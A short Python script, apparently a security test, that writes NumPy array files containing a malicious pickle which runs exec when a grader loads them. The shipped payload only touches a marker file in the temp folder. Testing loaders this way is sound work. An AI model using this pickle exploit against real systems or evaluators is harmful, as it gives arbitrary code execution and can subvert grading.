"""An array file whose values are a pickle: `numpy.load` would run it, on the grader's own machine, where pickles are
allowed. The payload would leave a file in the folder for temporary files.
"""

import io

import numpy as np


class Payload:
    def __reduce__(self):
        return exec, ("import tempfile, pathlib; pathlib.Path(tempfile.gettempdir(), 'pickled').touch()",)


def write(draft):
    buffer = io.BytesIO()
    np.save(buffer, np.array([Payload()], dtype=object), allow_pickle=True)
    for name in ("training-images.npy", "training-labels.npy", "validation-images.npy", "predictions-holdout.npy"):
        draft.ship(name, buffer.getvalue())
    draft.ship("training-data.json", b'{"error": null, "batch_sizes": [1]}')
    draft.ship("validation-data.json", b'{"error": null, "batch_sizes": [1]}')
    draft.die()
